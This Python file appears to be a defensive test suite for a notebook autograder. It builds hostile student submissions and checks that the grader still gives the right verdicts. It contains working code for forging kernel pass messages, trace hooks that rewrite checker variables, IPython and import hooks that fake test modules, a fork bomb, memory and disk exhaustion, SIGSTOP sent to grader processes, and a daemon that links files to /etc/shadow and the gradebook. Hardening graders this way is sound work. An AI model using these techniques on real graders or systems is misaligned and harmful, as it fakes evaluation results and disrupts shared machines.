    ctx.replace_function(nb, "transposed_conv2d", code('''
        def transposed_conv2d(x, kernel, stride=2):
            """Transposed convolution, one kernel position at a time."""
            height, width, _ = x.shape
            kernel_height, kernel_width, out_channels, _ = kernel.shape
            out = np.zeros(((height - 1) * stride + kernel_height, (width - 1) * stride + kernel_width, out_channels),
                           dtype=np.result_type(x, kernel))
            for a in range(kernel_height):
                for b in range(kernel_width):
                    out[a:a + (height - 1) * stride + 1:stride, b:b + (width - 1) * stride + 1:stride] += \\
                        np.einsum("ijc,oc->ijo", x, kernel[a, b])
            return out
    '''))
    ctx.replace_function(nb, "upsampling_block", code('''
        def upsampling_block(expansive_input, contractive_input, n_filters=32):
            """Upsample, join the skip connection, two 3x3 convolutions."""
            up = tf.keras.layers.Conv2DTranspose(filters=n_filters, kernel_size=(3, 3), strides=(2, 2),
                                                 padding="same")(expansive_input)
            x = tf.keras.layers.concatenate([up, contractive_input], axis=-1)
            for _ in range(2):
                x = tf.keras.layers.Conv2D(n_filters, (3, 3), padding="same", activation="relu",
                                           kernel_initializer=tf.keras.initializers.HeNormal())(x)
            return x
    '''))
    return files_of({"03_decoder": nb})


# Output channels: a verdict printed, displayed or sent is not a verdict ----------------------

@scenario("output-displayhook-before-raise",
          "conv_block emits execute_results (15, then a string) and a display '10', prints a check "
          "line, then raises NotImplementedError; a last cell shows 15 (nbgrader: partial or full credit)",
          ("02_encoder",), expect(zero("conv_block"), STUB, targets=["conv_block"]), tags=("output",))
def _(ctx):
    nb = ctx.release("02_encoder")
    ctx.replace_function(nb, "conv_block", code('''
        def conv_block(inputs=None, n_filters=32, dropout_prob=0, max_pooling=True):
            """Not written: it only makes the outputs of whoever calls it look like a pass."""
            from IPython import get_ipython
            from IPython.display import display
            shell = get_ipython()
            if shell is not None:
                shell.displayhook(15)             # an execute_result first: "partial credit", 15 points
                shell.displayhook("all passed")   # a non-numeric one: full points
            display({"text/plain": "10"}, raw=True)
            print("\\u2713 conv_block(Input((96, 128, 3)), n_filters=32): all 4 layers match the reference")
            raise NotImplementedError()
    '''))
    ctx.append(nb, "15")
    return files_of({"02_encoder": nb})


@scenario("output-fake-check-lines",
          "03_decoder functions print the checkers' own green success lines (and 'Tests passed: 25/25') "
          "and return wrong values",
          ("03_decoder",), expect({}, LOST, targets=["transposed_output_size", "transposed_conv2d", "upsampling_block"]),
          tags=("output",))
def _(ctx):
    nb = ctx.release("03_decoder")
    ctx.replace_function(nb, "transposed_output_size", code('''
        from test_utils.display import green


        def transposed_output_size(n, f, s, p):
            print(green("\\u2713 ") + "transposed_output_size is right on 6 cases")
            return n * s
    '''))
    ctx.replace_function(nb, "transposed_conv2d", code('''
        def transposed_conv2d(x, kernel, stride=2):
            print(green("\\u2713 ") + "transposed_conv2d matches tf.nn.conv2d_transpose on 4 random cases")
            height, width, _ = x.shape
            kernel_height, kernel_width, out_channels, _ = kernel.shape
            return np.zeros(((height - 1) * stride + kernel_height, (width - 1) * stride + kernel_width, out_channels))
    '''))
    ctx.replace_function(nb, "upsampling_block", code('''
        def upsampling_block(expansive_input, contractive_input, n_filters=32):
            print(green("\\u2713 ") + "upsampling_block(Input((6, 8, 512)), Input((12, 16, 256)), n_filters=256): "
                  "all 6 layers match the reference")
            return expansive_input
    '''))
    ctx.append(nb, 'print("Tests passed: 25/25")\nprint("Score: 25 / 25")\n')
    return files_of({"03_decoder": nb})


FORGE_MESSAGES = r'''
def _forge_messages(value):
    """Send, on the kernel's own channels, what a client reads as 'this request passed'."""
    import sys
    try:
        from IPython import get_ipython
        shell = get_ipython()
        kernel = shell.kernel
        session = kernel.session
        parent = kernel.get_parent()
        count = shell.execution_count
        data = {"text/plain": repr(value), "application/json": {"passed": True, "score": 100, "value": value}}
        session.send(kernel.iopub_socket, "execute_result", {"data": data, "metadata": {}, "execution_count": count},
                     parent=parent, ident=kernel._topic("execute_result"))
        session.send(kernel.iopub_socket, "status", {"execution_state": "idle"}, parent=parent,
                     ident=kernel._topic("status"))
        expressions = {name: {"status": "ok", "data": data, "metadata": {}}
                       for name in ("result", "value", "answer", "reply", "verdict", "out")}
        reply = {"status": "ok", "execution_count": count, "user_expressions": expressions, "payload": []}
        ident = getattr(kernel, "_parent_ident", None)
        if isinstance(ident, dict):
            ident = ident.get("shell")
        stream = getattr(kernel, "shell_stream", None)
        if stream is not None:
            session.send(stream, "execute_reply", reply, parent=parent, ident=ident)
    except Exception as error:
        print(f"(forging failed: {type(error).__name__}: {error})")
    print("\u2713 passed", file=sys.stderr)
'''


@scenario("output-forged-kernel-messages",
          "pixel_accuracy and mean_iou send, on the kernel's own session, a forged execute_result "
          "{'passed': true}, an early 'idle' status and an early execute_reply with user_expressions "
          "saying True, then return wrong values",
          ("05_training",), expect({}, LOST, targets=["pixel_accuracy", "mean_iou", "compile_model"]),
          tags=("output", "protocol"))
def _(ctx):
    nb = ctx.release("05_training")
    ctx.replace_function(nb, "pixel_accuracy", code(FORGE_MESSAGES) + code('''

        def pixel_accuracy(y_true, y_pred):
            _forge_messages(1.0)
            return 0.5
    '''))
    ctx.replace_function(nb, "mean_iou", code('''
        def mean_iou(y_true, y_pred, n_classes=23):
            _forge_messages(1.0)
            return 0.5
    '''))
    ctx.drop_calls(nb, "pixel_accuracy", "mean_iou")
    return files_of({"05_training": nb})


# Interpreter and IPython hooks ----------------------------------------------------------------

@scenario("hook-settrace-poison-locals",
          "sys.settrace/threading.settrace hook that rewrites the locals of every non-student frame "
          "named passed/ok/success/verdict/score/failures/... (ctypes PyFrame_LocalsToFast), plus a "
          "sys.setprofile spy; conv_block not written",
          ("02_encoder",), expect(zero("conv_block"), STUB, targets=["conv_block"]), tags=("hooks",))
def _(ctx):
    nb = ctx.release("02_encoder")
    ctx.insert_after(nb, "setup", '''
        import ctypes, sys, threading

        FORGED = {"passed": True, "ok": True, "success": True, "succeeded": True, "verdict": "pass",
                  "status": "ok", "failed": False, "failures": [], "errors": [], "problems": [],
                  "error": None, "message": None, "score": 15, "points": 15, "fraction": 1.0}
        SKIP = ("tensorflow", "keras", "numpy", "importlib", "zmq", "tornado", "asyncio", "traitlets",
                "jupyter_client", "ipykernel", "IPython", "threading", "logging", "h5py", "absl")
        MINE = sys._getframe().f_code.co_filename


        def _poison(frame, event, arg):
            if frame.f_code.co_filename == MINE:
                return None
            if frame.f_globals.get("__name__", "").startswith(SKIP):
                return None
            if event in ("line", "return"):
                local = frame.f_locals
                changed = False
                for name, value in FORGED.items():
                    if name in local:
                        try:
                            same = local[name] == value
                        except Exception:
                            same = False
                        if same is not True:
                            local[name] = value
                            changed = True
                if changed:
                    ctypes.pythonapi.PyFrame_LocalsToFast(ctypes.py_object(frame), ctypes.c_int(0))
            return _poison


        SEEN = []


        def _spy(frame, event, arg):
            if event == "call" and len(SEEN) < 20000:
                SEEN.append(f"{frame.f_globals.get('__name__')}.{frame.f_code.co_name}")


        sys.settrace(_poison)
        threading.settrace(_poison)
        sys.setprofile(_spy)
        threading.setprofile(_spy)
        print("trace and profile hooks installed")
    ''')
    return files_of({"02_encoder": nb})


@scenario("hook-ipython-transformers-events",
          "right after the setup cell (before any test): input transformers that turn any code naming a check, the judge, "
          "a probe or a graded function into print('passed'), an AST transformer that drops asserts, "
          "raises and check calls, pre/post_run_cell events that clear errors, set_custom_exc, "
          "showtraceback, sys.excepthook; nothing written",
          ("03_decoder",), expect({}, STUB, targets=["transposed_output_size", "transposed_conv2d", "upsampling_block"]),
          tags=("hooks",))
def _(ctx):
    nb = ctx.release("03_decoder")
    ctx.insert_after(nb, "setup", '''
        import ast, sys
        from IPython import get_ipython

        shell = get_ipython()
        WORDS = ("check_", "judge", "probe", "grader", "assert", "transposed", "upsampling", "test_utils", "expected")


        def _rewrite(lines):
            text = "".join(lines)
            if "_rewrite" not in text and any(word in text for word in WORDS):
                return ["print('\\\\u2713 all tests passed')\\n"]
            return lines


        shell.input_transformers_cleanup.insert(0, _rewrite)
        shell.input_transformers_post.append(_rewrite)


        class _Neuter(ast.NodeTransformer):
            def visit_Assert(self, node):
                return ast.Pass()

            def visit_Raise(self, node):
                return ast.Pass()

            def visit_Call(self, node):
                self.generic_visit(node)
                name = getattr(node.func, "id", getattr(node.func, "attr", ""))
                if name.startswith(("check_", "_fail", "fail", "assert")):
                    return ast.Constant(value=None)
                return node


        shell.ast_transformers.append(_Neuter())


        def _pre_run(info=None):
            print("\\u2713 passed")


        def _post_run(result=None):
            if result is not None:
                result.error_in_exec = None
                result.error_before_exec = None


        shell.events.register("pre_run_cell", _pre_run)
        shell.events.register("post_run_cell", _post_run)


        def _swallow(self, etype, value, tb, tb_offset=None):
            print("\\u2713 passed")
            return []


        shell.set_custom_exc((BaseException,), _swallow)
        shell.showtraceback = lambda *args, **kwargs: print("\\u2713 passed")
        shell.showsyntaxerror = lambda *args, **kwargs: print("\\u2713 passed")
        sys.excepthook = lambda *args: print("\\u2713 passed")
        print("hooks installed")
    ''')
    return files_of({"03_decoder": nb})


@scenario("hook-replace-run-cell-and-execute",
          "right after the setup cell: get_ipython().run_cell / run_cell_async / run_ast_nodes / run_code "
          "and the kernel's do_execute and user_expressions replaced, so that any request naming "
          "conv_block, a check, the judge or a test runs print('passed') and every expression is True",
          ("02_encoder",), expect(zero("conv_block"), STUB, targets=["conv_block"]), tags=("hooks", "protocol"))
def _(ctx):
    nb = ctx.release("02_encoder")
    ctx.insert_after(nb, "setup", '''
        import ast, inspect
        from IPython import get_ipython

        shell = get_ipython()
        FAKE = "print('\\\\u2713 conv_block: all layers match the reference')"
        WORDS = ("conv_block", "check", "judge", "probe", "test", "verdict")


        def _suspicious(text):
            return isinstance(text, str) and any(word in text for word in WORDS)


        _run_cell = shell.run_cell


        def run_cell(raw_cell, *args, **kwargs):
            return _run_cell(FAKE if _suspicious(raw_cell) else raw_cell, *args, **kwargs)


        _run_cell_async = shell.run_cell_async


        async def run_cell_async(raw_cell, *args, **kwargs):
            return await _run_cell_async(FAKE if _suspicious(raw_cell) else raw_cell, *args, **kwargs)


        _run_ast_nodes = shell.run_ast_nodes


        async def run_ast_nodes(nodelist, cell_name, *args, **kwargs):
            if any(_suspicious(ast.unparse(node)) for node in nodelist):
                nodelist = ast.parse(FAKE).body
            return await _run_ast_nodes(nodelist, cell_name, *args, **kwargs)


        _run_code = shell.run_code


        async def run_code(code_obj, result=None, *, async_=False):
            if any(_suspicious(name) for name in code_obj.co_names):
                print("\\u2713 passed")
                return False  # "no error"
            return await _run_code(code_obj, result, async_=async_)


        shell.run_cell = run_cell
        shell.run_cell_async = run_cell_async
        shell.run_ast_nodes = run_ast_nodes
        shell.run_code = run_code
        shell.user_expressions = lambda expressions: {
            key: {"status": "ok", "data": {"text/plain": "True"}, "metadata": {}} for key in expressions}

        kernel = shell.kernel
        _do_execute = kernel.do_execute


        async def do_execute(code, silent, store_history=True, user_expressions=None, allow_stdin=False, **kwargs):
            if _suspicious(code):
                code = FAKE
            if user_expressions:
                user_expressions = {key: "True" for key in user_expressions}
            result = _do_execute(code, silent, store_history, user_expressions, allow_stdin, **kwargs)
            if inspect.isawaitable(result):
                result = await result
            return result


        kernel.do_execute = do_execute
        print("run_cell, run_code, do_execute replaced")
    ''')
    return files_of({"02_encoder": nb})


@scenario("hook-exit-signal-handlers",
          "03_decoder: atexit and signal handlers (INT, TERM, ALRM, USR1/2, HUP, QUIT, XCPU) print "
          "'passed'; os._exit and sys.exit replaced; the functions raise SystemExit(0), "
          "KeyboardInterrupt and GeneratorExit (not Exception) when called",
          ("03_decoder",), expect({}, r"not|fail|SystemExit|KeyboardInterrupt|GeneratorExit|interrupt|exit",
                                  targets=["transposed_output_size", "transposed_conv2d", "upsampling_block"]),
          tags=("hooks",))
def _(ctx):
    nb = ctx.release("03_decoder")
    ctx.replace_function(nb, "transposed_output_size", code('''
        def transposed_output_size(n, f, s, p):
            raise SystemExit(0)
    '''))
    ctx.replace_function(nb, "transposed_conv2d", code('''
        def transposed_conv2d(x, kernel, stride=2):
            raise KeyboardInterrupt
    '''))
    ctx.replace_function(nb, "upsampling_block", code('''
        def upsampling_block(expansive_input, contractive_input, n_filters=32):
            raise GeneratorExit
    '''))
    ctx.drop_calls(nb, "upsampling_block")
    ctx.insert_after(nb, "setup", '''
        import atexit, builtins, os, signal, sys


        def _passed(*args):
            print("\\u2713 all tests passed: 25/25", flush=True)


        atexit.register(_passed)
        for name in ("SIGINT", "SIGTERM", "SIGALRM", "SIGUSR1", "SIGUSR2", "SIGHUP", "SIGQUIT", "SIGXCPU"):
            try:
                signal.signal(getattr(signal, name), lambda signum, frame: _passed())
            except (AttributeError, OSError, ValueError) as error:
                print(name, error)
        os._exit = lambda *args: _passed()
        sys.exit = lambda *args: _passed()
        builtins.exit = builtins.quit = sys.exit
    ''')
    return files_of({"03_decoder": nb})


@scenario("hook-thread-swaps-later",
          "01_data: nothing written; right after the setup cell a daemon thread (named like ipykernel's) "
          "waits a second, then keeps rebinding pair_files, decode_image, ... in the user namespace to "
          "the course library's functions",
          ("01_data",), expect({}, r"not|fail|library|delegat", targets=list(tests_in("01_data"))),
          tags=("hooks", "delegation"))
def _(ctx):
    nb = ctx.release("01_data")
    ctx.insert_after(nb, "setup", '''
        import sys, threading, time
        from IPython import get_ipython
        from course import data as _library

        _namespace = get_ipython().user_ns
        _NAMES = ("pair_files", "decode_image", "decode_mask", "resize_pair", "split_pairs")


        def _swap_later():
            time.sleep(1)  # after whatever looks at the namespace when the notebook ends
            while True:
                for name in _NAMES:
                    _namespace[name] = getattr(_library, name)
                    vars(sys.modules["__main__"])[name] = getattr(_library, name)
                time.sleep(0.005)


        threading.Thread(target=_swap_later, daemon=True, name="IOPub heartbeat").start()
    ''')
    return files_of({"01_data": nb})


@scenario("hook-daemon-fork",
          "conv_block double-forks a setsid daemon that lives on after the kernel: for 15 minutes it "
          "plants links (result.json, answer.npy, ... -> /etc/shadow, the gradebook) and overwrites "
          "every .json/.npy it can see in its folders with {'passed': true}; 03_decoder solved (a "
          "later kernel must not be disturbed)",
          ("02_encoder", "03_decoder"),
          expect({**zero("conv_block"), **full("03_decoder")}, r"not|fail|None", targets=["conv_block"],
                 canary=True, no_leak=["shadow", "hidden"], gradebook_unchanged=True), tags=("hooks", "resources"))
def _(ctx):
    nb = ctx.release("02_encoder")
    ctx.replace_function(nb, "conv_block", ctx.canary_code() + code('''

        GRADEBOOK = @@GRADEBOOK@@


        def _daemon(connection_file):
            import glob, json, os, time
            _corpus_canary("daemon")
            targets = ["/etc/shadow", GRADEBOOK, "/proc/1/environ"]
            folders = {os.getcwd(), os.path.expanduser("~"), "/tmp", os.environ.get("TMPDIR", "/tmp"), "/dev/shm"}
            if connection_file:
                folders.add(os.path.dirname(os.path.abspath(connection_file)))
            names = ("result.json", "reply.json", "answer.npy", "out.npy", "verdict.json", "response.json",
                     "values.npy", "feedback.html")
            forged = json.dumps({"passed": True, "score": 15, "status": "ok", "verdict": "pass"})
            end = time.time() + 900
            while time.time() < end:
                for folder in list(folders):
                    for index, name in enumerate(names):
                        path = os.path.join(folder, name)
                        try:
                            if not os.path.islink(path):
                                if os.path.exists(path):
                                    os.unlink(path)
                                os.symlink(targets[index % len(targets)], path)
                        except OSError:
                            pass
                    for path in glob.glob(os.path.join(folder, "*.json")) + glob.glob(os.path.join(folder, "*.npy")):
                        if os.path.islink(path) or path == connection_file:
                            continue
                        try:
                            with open(path, "w") as handle:
                                handle.write(forged)
                        except OSError:
                            pass
                time.sleep(0.2)


        def conv_block(inputs=None, n_filters=32, dropout_prob=0, max_pooling=True):
            import os, time
            try:
                from ipykernel import get_connection_file
                connection_file = get_connection_file()
            except Exception:
                connection_file = None
            if os.fork() == 0:
                try:
                    os.setsid()
                    if os.fork() == 0:
                        _daemon(connection_file)
                finally:
                    os._exit(0)
            time.sleep(0.2)
            return None, None
    ''').replace("@@GRADEBOOK@@", repr(str(ctx.gradebook))))
    ctx.drop_calls(nb, "conv_block")
    return files_of({"02_encoder": nb, "03_decoder": ctx.solved("03_decoder")})


# Resource abuse -------------------------------------------------------------------------------

@scenario("resource-kill-on-probe",
          "conv_block SIGKILLs its own kernel the moment it is called; 03_decoder solved (the next "
          "notebook gets a fresh kernel and its points)",
          ("02_encoder", "03_decoder"),
          expect({**zero("conv_block"), **full("03_decoder")}, r"died|dead|kill|crash|signal|not",
                 targets=["conv_block"]), tags=("resources",))
def _(ctx):
    nb = ctx.release("02_encoder")
    ctx.replace_function(nb, "conv_block", code('''
        import os, signal


        def conv_block(inputs=None, n_filters=32, dropout_prob=0, max_pooling=True):
            os.kill(os.getpid(), signal.SIGKILL)
    '''))
    ctx.drop_calls(nb, "conv_block")
    return files_of({"02_encoder": nb, "03_decoder": ctx.solved("03_decoder")})


@scenario("resource-segfault",
          "05_training: compile_model and pixel_accuracy solved, mean_iou segfaults (ctypes.string_at(0)) "
          "when called; the attack costs mean_iou only",
          ("05_training",),
          expect({**full("05_training"), **zero("mean_iou")}, r"died|dead|segment|SIGSEGV|signal|crash|not",
                 targets=["mean_iou"]), tags=("resources",))
def _(ctx):
    nb = ctx.solved("05_training")
    ctx.replace_function(nb, "mean_iou", code('''
        import ctypes


        def mean_iou(y_true, y_pred, n_classes=23):
            return ctypes.string_at(0)
    '''))
    ctx.drop_calls(nb, "mean_iou")
    return files_of({"05_training": nb})


@scenario("resource-os-exit",
          "01_data: every function solved but make_dataset, which calls os._exit(0) (a 'clean' exit "
          "code) when called",
          ("01_data",), expect({**full("01_data"), **zero("make_dataset")}, r"died|dead|exit|crash|not",
                               targets=["make_dataset"]), tags=("resources",))
def _(ctx):
    nb = ctx.solved("01_data")
    ctx.replace_function(nb, "make_dataset", code('''
        def make_dataset(pairs, loader, batch_size=32, shuffle=False, seed=0):
            os._exit(0)
    '''))
    ctx.drop_calls(nb, "make_dataset")
    return files_of({"01_data": nb})


@scenario("resource-fork-bomb",
          "03_decoder: the transposed functions solved, upsampling_block is a fork bomb",
          ("03_decoder",), expect({**full("03_decoder"), **zero("upsampling_block")},
                                  r"process|fork|resource|time|killed|died|not", targets=["upsampling_block"]),
          tags=("resources",))
def _(ctx):
    nb = ctx.solved("03_decoder")
    ctx.replace_function(nb, "upsampling_block", code('''
        import os


        def upsampling_block(expansive_input, contractive_input, n_filters=32):
            while True:
                try:
                    os.fork()
                except OSError:
                    pass
    '''))
    ctx.drop_calls(nb, "upsampling_block")
    return files_of({"03_decoder": nb})


@scenario("resource-memory-bomb",
          "conv_block allocates and touches 100 MB every 50 ms, forever; 03_decoder solved",
          ("02_encoder", "03_decoder"),
          expect({**zero("conv_block"), **full("03_decoder")}, r"memory|Memory|killed|died|not", targets=["conv_block"]),
          tags=("resources",))
def _(ctx):
    nb = ctx.release("02_encoder")
    ctx.replace_function(nb, "conv_block", code('''
        import time


        def conv_block(inputs=None, n_filters=32, dropout_prob=0, max_pooling=True):
            hoard = []
            while True:
                hoard.append(b"x" * (100 * 2**20))
                time.sleep(0.05)
    '''))
    ctx.drop_calls(nb, "conv_block")
    return files_of({"02_encoder": nb, "03_decoder": ctx.solved("03_decoder")})


@scenario("resource-infinite-output",
          "03_decoder: the transposed functions solved, upsampling_block prints to stdout and stderr "
          "forever",
          ("03_decoder",), expect({**full("03_decoder"), **zero("upsampling_block")},
                                  r"output|time|interrupt|not", targets=["upsampling_block"]), tags=("resources", "output"))
def _(ctx):
    nb = ctx.solved("03_decoder")
    ctx.replace_function(nb, "upsampling_block", code('''
        import sys


        def upsampling_block(expansive_input, contractive_input, n_filters=32):
            while True:
                print("spam " * 2000)
                sys.stderr.write("eggs " * 2000 + "\\n")
    '''))
    ctx.drop_calls(nb, "upsampling_block")
    return files_of({"03_decoder": nb})


@scenario("resource-ignore-sigint-sleep",
          "unet_model ignores SIGINT, SIGTERM, SIGHUP, ... and sleeps forever, swallowing every "
          "exception; 02_encoder solved",
          ("04_unet", "02_encoder"),
          expect({**zero("unet_model"), **full("02_encoder")}, r"time|interrupt|killed|not", targets=["unet_model"]),
          tags=("resources",))
def _(ctx):
    nb = ctx.release("04_unet")
    ctx.replace_function(nb, "unet_model", code('''
        import signal, time


        def unet_model(input_size=(96, 128, 3), n_filters=32, n_classes=23):
            for name in ("SIGINT", "SIGTERM", "SIGHUP", "SIGQUIT", "SIGUSR1", "SIGUSR2", "SIGALRM"):
                try:
                    signal.signal(getattr(signal, name), signal.SIG_IGN)
                except Exception:
                    pass
            while True:
                try:
                    time.sleep(3600)
                except BaseException:
                    pass
    '''))
    ctx.drop_calls(nb, "unet_model")
    return files_of({"04_unet": nb, "02_encoder": ctx.solved("02_encoder")})


@scenario("resource-slow-answers",
          "05_training: compile_model solved; pixel_accuracy sleeps 15 s and mean_iou spins 15 s per "
          "call, then both answer a wrong 0.5 (the judge's time, not the student's)",
          ("05_training",),
          expect({**full("05_training"), **zero("pixel_accuracy", "mean_iou")}, r"time|slow|expected|not|differ",
                 targets=["pixel_accuracy", "mean_iou"]), tags=("resources",))
def _(ctx):
    nb = ctx.solved("05_training")
    ctx.replace_function(nb, "pixel_accuracy", code('''
        import time


        def pixel_accuracy(y_true, y_pred):
            time.sleep(15)
            return 0.5
    '''))
    ctx.replace_function(nb, "mean_iou", code('''
        def mean_iou(y_true, y_pred, n_classes=23):
            end = time.time() + 15
            while time.time() < end:
                pass
            return 0.5
    '''))
    ctx.drop_calls(nb, "pixel_accuracy", "mean_iou")
    return files_of({"05_training": nb})


@scenario("resource-disk-fill",
          "conv_block writes 50000 empty files and 2 GB of data into each of the working folder, home, "
          "/tmp and /dev/shm (no disk quota), then raises NotImplementedError",
          ("02_encoder",), expect(zero("conv_block"), r"NotImplementedError|space|quota|disk|not|time",
                                  targets=["conv_block"]), tags=("resources",))
def _(ctx):
    nb = ctx.release("02_encoder")
    ctx.replace_function(nb, "conv_block", code('''
        import os


        def conv_block(inputs=None, n_filters=32, dropout_prob=0, max_pooling=True):
            chunk = b"\\0" * 2**20
            for folder in (os.getcwd(), os.path.expanduser("~"), "/tmp", "/dev/shm"):
                try:
                    target = os.path.join(folder, "fill")
                    os.makedirs(target, exist_ok=True)
                    for index in range(50000):
                        open(os.path.join(target, f"{index:06d}"), "wb").close()
                    for index in range(8):
                        with open(os.path.join(target, f"big{index}"), "wb") as handle:
                            for _ in range(256):
                                handle.write(chunk)
                except OSError as error:
                    print(folder, error)
            raise NotImplementedError()
    '''))
    ctx.drop_calls(nb, "conv_block")
    return files_of({"02_encoder": nb})


@scenario("resource-signals-to-grader",
          "conv_block sends SIGSTOP to every process it can see whose command line names python, "
          "grader, judge, nbgrader, jupyter or pytest, to its parent, and to -1 (all it may signal). "
          "Unsafe without the full sandbox: it stops the grader itself",
          ("02_encoder",), expect(zero("conv_block"), r"not|fail|time|stop", targets=["conv_block"]),
          needs_sandbox=True, tags=("resources", "judge"))
def _(ctx):
    nb = ctx.release("02_encoder")
    ctx.replace_function(nb, "conv_block", code('''
        import os, signal


        def conv_block(inputs=None, n_filters=32, dropout_prob=0, max_pooling=True):
            me = os.getpid()
            for entry in os.listdir("/proc"):
                if not entry.isdigit() or int(entry) == me:
                    continue
                try:
                    with open(f"/proc/{entry}/cmdline", "rb") as handle:
                        cmdline = handle.read().replace(b"\\0", b" ").decode("utf-8", "replace")
                except OSError:
                    continue
                if any(word in cmdline for word in ("grader", "judge", "nbgrader", "pytest", "jupyter", "python")):
                    try:
                        os.kill(int(entry), signal.SIGSTOP)
                    except OSError:
                        pass
            for pid in (os.getppid(), -1):
                try:
                    os.kill(pid, signal.SIGSTOP)
                except OSError:
                    pass
            raise NotImplementedError()
    '''))
    ctx.drop_calls(nb, "conv_block")
    return files_of({"02_encoder": nb})


# The import system ----------------------------------------------------------------------------

IMPORT_HOOK = r'''
import builtins, importlib, sys, types

_HOOKED = ("test_utils", "judge", "grader", "nbgrader")


def _ok(*args, **kwargs):
    print("\u2713 all layers match the reference")
    return []


def _fake(name):
    module = types.ModuleType(name)
    module.__path__ = []
    module.__getattr__ = lambda attribute: _ok
    return module


_FAKES = {}


def _fake_tree(name):
    parts = name.split(".")
    for index in range(1, len(parts) + 1):
        _FAKES.setdefault(".".join(parts[:index]), _fake(".".join(parts[:index])))
    for index in range(1, len(parts)):
        setattr(_FAKES[".".join(parts[:index])], parts[index], _FAKES[".".join(parts[:index + 1])])
    return _FAKES[parts[0]], _FAKES[name]


_real_import = builtins.__import__


def _hooked_import(name, globals=None, locals=None, fromlist=(), level=0):
    if level == 0 and name.split(".")[0] in _HOOKED:
        top, module = _fake_tree(name)
        return module if fromlist else top
    return _real_import(name, globals, locals, fromlist, level)


builtins.__import__ = _hooked_import
_real_import_module = importlib.import_module
importlib.import_module = lambda name, package=None: (
    _fake_tree(name)[1] if name.split(".")[0] in _HOOKED else _real_import_module(name, package))
_real_reload = importlib.reload
importlib.reload = lambda module: (
    _fake_tree(module.__name__)[1] if module.__name__.split(".")[0] in _HOOKED else _real_reload(module))
for _name in list(sys.modules):
    if _name.split(".")[0] in _HOOKED:
        sys.modules[_name] = _fake_tree(_name)[1]
'''


@scenario("import-builtins-hook",
          "after the setup cell: builtins.__import__, importlib.import_module and importlib.reload "
          "wrapped to hand out fake test_utils / judge / grader modules whose every check passes "
          "(sys.modules entries replaced too); conv_block not written",
          ("02_encoder",), expect(zero("conv_block"), STUB, targets=["conv_block"]), tags=("imports",))
def _(ctx):
    nb = ctx.release("02_encoder")
    ctx.insert_after(nb, "setup", IMPORT_HOOK)
    return files_of({"02_encoder": nb})


@scenario("import-meta-path-finder",
          "after the setup cell: a sys.meta_path finder and a sys.path_hooks entry that serve fake "
          "test_utils, course, judge, grader and nbgrader packages (every attribute a passing check), "
          "those modules dropped from sys.modules, runpy.run_module patched; nothing written",
          ("03_decoder",), expect({}, STUB, targets=["transposed_output_size", "transposed_conv2d", "upsampling_block"]),
          tags=("imports",))
def _(ctx):
    nb = ctx.release("03_decoder")
    ctx.insert_after(nb, "setup", r'''
        import importlib, importlib.abc, importlib.machinery, runpy, sys

        PREFIXES = ("test_utils", "course", "judge", "grader", "nbgrader")


        class _FakeLoader(importlib.abc.Loader):
            def create_module(self, spec):
                return None

            def exec_module(self, module):
                module.__path__ = []
                module.__getattr__ = lambda attribute: (lambda *args, **kwargs: print("\u2713 passed"))


        class _Finder(importlib.abc.MetaPathFinder):
            def find_spec(self, fullname, path=None, target=None):
                if fullname.split(".")[0] in PREFIXES:
                    return importlib.machinery.ModuleSpec(fullname, _FakeLoader(), is_package=True)
                return None


        sys.meta_path.insert(0, _Finder())


        def _path_hook(entry):
            for hook in sys.path_hooks:
                if hook is _path_hook:
                    continue
                try:
                    inner = hook(entry)
                    break
                except ImportError:
                    continue
            else:
                raise ImportError(entry)

            class _EntryFinder:
                def find_spec(self, fullname, target=None):
                    if fullname.split(".")[0] in PREFIXES:
                        return _Finder().find_spec(fullname)
                    return inner.find_spec(fullname, target)

                def invalidate_caches(self):
                    getattr(inner, "invalidate_caches", lambda: None)()

            return _EntryFinder()


        sys.path_hooks.insert(0, _path_hook)
        sys.path_importer_cache.clear()
        for name in list(sys.modules):
            if name.split(".")[0] in PREFIXES:
                del sys.modules[name]
        _run_module = runpy.run_module
        runpy.run_module = lambda mod_name, *args, **kwargs: (
            {} if mod_name.split(".")[0] in PREFIXES else _run_module(mod_name, *args, **kwargs))
        importlib.invalidate_caches()
        print("fake packages installed")
    ''')
    return files_of({"03_decoder": nb})


def _forwarder(ctx, module, patch=""):
    """Planted `module.py` (or package __init__) that records itself, then becomes the real module."""
    return ctx.planted(f'''
        _corpus_canary({module!r})
        import importlib as _importlib, os as _os, sys as _sys
        _here = _os.path.dirname(_os.path.abspath(__file__))
        if _os.path.basename(__file__) == "__init__.py":
            _here = _os.path.dirname(_here)
        _saved = list(_sys.path)
        _sys.path[:] = [p for p in _sys.path if _os.path.abspath(p or ".") != _here]
        _sys.modules.pop(__name__, None)
        try:
            _real = _importlib.import_module({module!r})
        finally:
            _sys.path[:] = _saved
        {patch}
        _sys.modules[__name__] = _real
    ''')


def planted_files(ctx):
    """{relative path: text} of modules a student plants to shadow trusted ones (issue 10)."""
    passing_checks = ctx.planted('''
        _corpus_canary(__name__)


        def _ok(*args, **kwargs):
            print("\\u2713 all checks passed")


        def __getattr__(name):
            return _ok


        check_conv_block = check_conv_block_outputs = check_upsampling_block = check_unet_model = _ok
        check_transposed_output_size = check_transposed_conv2d = check_pair_files = _ok
        check_decode_image = check_decode_mask = check_resize_pair = check_split_pairs = _ok
        check_make_dataset = check_compile_model = check_training_learns = _ok
        check_pixel_accuracy = check_mean_iou = _ok
        summary = lambda model: []
        reference_table = lambda name: []
        comparator = _ok
    ''')
    fake_course = ctx.planted('''
        _corpus_canary("course")
        import os as _os, sys as _sys
        # keep the real course importable underneath: extend this package with the real folder
        for _entry in list(_sys.path):
            _candidate = _os.path.join(_os.path.abspath(_entry or "."), "course")
            if _os.path.abspath(_candidate) != _os.path.dirname(_os.path.abspath(__file__)) and \\
                    _os.path.isfile(_os.path.join(_candidate, "__init__.py")):
                __path__.append(_candidate)
    ''')
    fake_reference = ctx.planted('''
        _corpus_canary("course.reference")
        import sys as _sys


        def reference_function(name):
            """The 'reference' is the student's own function: every comparison is with itself."""
            return vars(_sys.modules["__main__"])[name]


        def source_dir():
            import os
            return os.getcwd()
    ''')
    only_canary = ctx.planted('_corpus_canary(__name__ if "__name__" in dir() else "startup")\n')
    pth_line = "import sys; exec(" + repr(ctx.planted('_corpus_canary("pth")\n')) + ")\n"
    return {
        "test_utils/__init__.py": passing_checks,
        "test_utils/checks.py": passing_checks,
        "test_utils/layer_table.py": passing_checks,
        "test_utils/reference_tables.json": json.dumps({"generated_by": "me", "tables": {}}),
        "course/__init__.py": fake_course,
        "course/reference.py": fake_reference,
